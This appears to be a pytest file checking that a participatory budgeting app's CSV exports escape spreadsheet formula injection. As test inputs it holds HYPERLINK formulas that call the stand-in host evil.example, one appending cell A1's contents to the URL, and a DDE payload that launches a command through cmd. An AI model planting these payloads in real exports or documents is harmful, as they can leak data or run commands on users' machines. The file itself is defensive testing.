"""PB CSV exports: no live formulas from residents' or officers' text, whole numbers, readable reasons."""

from __future__ import annotations

import csv
import io

from pbapp.pb import services
from tests.pb import factories

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _counted_ballot(app, db, demo, login_as, client):
    process = factories.process(app, db, demo, area=factories.neighbourhood(db, demo), proposals=3)
    with app.test_request_context():
        actor = factories.officer(db)
        item = services.submit_proposal(
            db, demo, process.id, actor, title=HOSTILE, description="Sneaky", estimated_cost_pence=1_000_000
        )
        services.save_review(db, demo, item.id, actor, feasible=True, reviewed_cost_pence=None, reason="")
        services.publish_review(db, demo, item.id, actor)
    ballot = factories.ballot(app, db, demo, process_=process, title="@SUM(1+1)*cmd|' /C calc'!A0")
    refs = factories.refs(db, ballot)
    with app.test_request_context():
        for n, choice in enumerate([[refs[0], refs[3]], [refs[3]], [refs[0], refs[1]]]):
            services.cast_vote(db, demo, ballot.id, services.Voter(f"{n:064d}", "code"), choice)
        services.close_ballot(db, demo, ballot.id, factories.officer(db))
    login_as("officer")
    assert client.post(f"/pb/{demo.slug}/manage/ballots/{ballot.id}/publish").status_code == 303
    return ballot


def test_results_csv_has_no_live_formula_whole_support_and_sentences(app, db, demo, client, login_as):
    ballot = _counted_ballot(app, db, demo, login_as, client)
    response = client.get(f"/pb/{demo.slug}/ballots/{ballot.id}/results.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = _rows(response.get_data(as_text=True))
    assert list(rows[0]) == list(services.RESULTS_COLUMNS)
    hostile = next(r for r in rows if "HYPERLINK" in r["title"])
    assert hostile["title"] == "'" + HOSTILE
    for row in rows:
        assert row["support"].isdigit() and row["cost_pence"].isdigit(), row
        assert row["reason"] and not row["reason"].startswith("{") and "reason_code" not in row["reason"], row
        assert row["reason"][0].isupper() and row["reason"].endswith("."), row
        assert row["funded_by_count"] in ("yes", "no") and row["schema_version"] == "2"
        assert not row["title"].startswith(("=", "+", "-", "@"))
    assert int(hostile["support"]) == 2 and hostile["funded_by_count"] == "yes"


def test_voting_codes_csv_neutralises_the_ballot_title(app, db, demo, client, login_as):
    ballot = factories.ballot(app, db, demo, title='=HYPERLINK("http://evil.example","Vote here")')
    factories.codes(app, db, demo, ballot, size=2)
    login_as("officer")
    batch = factories.batch_ids(db, ballot)[0]
    rows = _rows(client.get(f"/pb/{demo.slug}/manage/ballots/{ballot.id}/codes/{batch}.csv").get_data(as_text=True))
    assert [r["letter"] for r in rows] == ["1", "2"]
    assert all(r["ballot"].startswith("'=HYPERLINK") for r in rows)
